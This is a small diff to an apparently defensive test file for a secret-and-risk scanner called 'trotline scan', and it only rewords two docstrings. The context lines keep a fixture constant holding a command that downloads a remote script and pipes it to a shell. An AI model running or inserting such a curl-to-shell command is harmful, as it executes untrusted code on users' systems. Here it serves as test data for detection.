@@ -1,4 +1,4 @@
-"""trotline scan: a tree is read, nothing is run, no value is printed, and what was left out is said."""
+"""The scan command reads a tree, runs nothing, prints no secret, and reports skipped files."""
 
 import contextlib
 import errno
@@ -26,7 +26,7 @@ FETCHES = "curl -s https://acme.invalid/x.sh | sh"
 
 
 class Project:
-    """A tree to scan, and a home beside it."""
+    """A tree to scan, and a home next to it."""
 
     def __init__(self, path: Path) -> None:
         self.root = path / "project"
